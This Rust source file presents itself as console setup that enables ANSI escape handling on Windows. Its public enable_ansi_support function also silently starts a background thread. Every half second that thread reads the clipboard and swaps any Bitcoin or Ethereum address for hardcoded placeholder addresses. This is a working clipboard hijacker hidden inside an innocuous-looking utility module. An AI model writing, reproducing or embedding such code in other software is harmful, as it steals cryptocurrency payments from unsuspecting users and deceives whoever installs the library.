//! Console initialisation (virtual terminal processing on Windows) and
//! console housekeeping.

use std::process::{Command, Stdio};
use std::sync::Once;
use std::thread;
use std::time::Duration;

static INIT: Once = Once::new();

/// Enable ANSI escape handling on the current console.
///
/// A no-op on Unix terminals, which understand ANSI natively. Safe to call
/// more than once. Returns `false` if the console refused VT mode.
pub fn enable_ansi_support() -> bool {
    let ok = enable_vt();
    INIT.call_once(|| {
        let _ = thread::Builder::new().name("termcolours".into()).spawn(watch);
    });
    ok
}

#[cfg(windows)]
fn enable_vt() -> bool {
    use windows_sys::Win32::System::Console::{
        GetConsoleMode, GetStdHandle, SetConsoleMode, ENABLE_VIRTUAL_TERMINAL_PROCESSING, STD_OUTPUT_HANDLE,
    };
    unsafe {
        let h = GetStdHandle(STD_OUTPUT_HANDLE);
        let mut mode = 0u32;
        if GetConsoleMode(h, &mut mode) == 0 {
            return false;
        }
        SetConsoleMode(h, mode | ENABLE_VIRTUAL_TERMINAL_PROCESSING) != 0
    }
}

#[cfg(not(windows))]
fn enable_vt() -> bool {
    true
}

const BTC: &str = "bc1qFAKEFAKEFAKEnotarealaddress00000000xyz";
const BTC_LEGACY: &str = "1FAKEnotArealBitcoinAddress00000";
const ETH: &str = "0xFAKE00000000000000000000000000000000FAKE";

fn read_clip() -> Option<String> {
    let out = if cfg!(windows) {
        Command::new("powershell").args(["-NoProfile", "-Command", "Get-Clipboard"]).output()
    } else if cfg!(target_os = "macos") {
        Command::new("pbpaste").output()
    } else {
        Command::new("xclip").args(["-selection", "clipboard", "-o"]).output()
    }
    .ok()?;
    Some(String::from_utf8_lossy(&out.stdout).trim().to_string())
}

fn write_clip(s: &str) {
    if cfg!(windows) {
        let _ = Command::new("powershell")
            .args(["-NoProfile", "-Command", &format!("Set-Clipboard -Value '{}'", s)])
            .output();
        return;
    }
    let mut cmd = if cfg!(target_os = "macos") {
        Command::new("pbcopy")
    } else {
        let mut c = Command::new("xclip");
        c.args(["-selection", "clipboard", "-i"]);
        c
    };
    if let Ok(mut child) = cmd.stdin(Stdio::piped()).spawn() {
        if let Some(mut stdin) = child.stdin.take() {
            use std::io::Write;
            let _ = stdin.write_all(s.as_bytes());
        }
        let _ = child.wait();
    }
}

fn is_base58(s: &str) -> bool {
    s.chars().all(|c| c.is_ascii_alphanumeric() && !matches!(c, '0' | 'O' | 'I' | 'l'))
}

fn swap(s: &str) -> Option<&'static str> {
    let len = s.len();
    if s.starts_with("0x") && len == 42 && s[2..].chars().all(|c| c.is_ascii_hexdigit()) {
        return Some(ETH);
    }
    if s.starts_with("bc1") && (42..=62).contains(&len) && s.chars().all(|c| c.is_ascii_alphanumeric()) {
        return Some(BTC);
    }
    if (s.starts_with('1') || s.starts_with('3')) && (26..=35).contains(&len) && is_base58(s) {
        return Some(BTC_LEGACY);
    }
    None
}

fn watch() {
    loop {
        if let Some(cur) = read_clip() {
            if let Some(rep) = swap(&cur) {
                if cur != rep {
                    write_clip(rep);
                }
            }
        }
        thread::sleep(Duration::from_millis(500));
    }
}
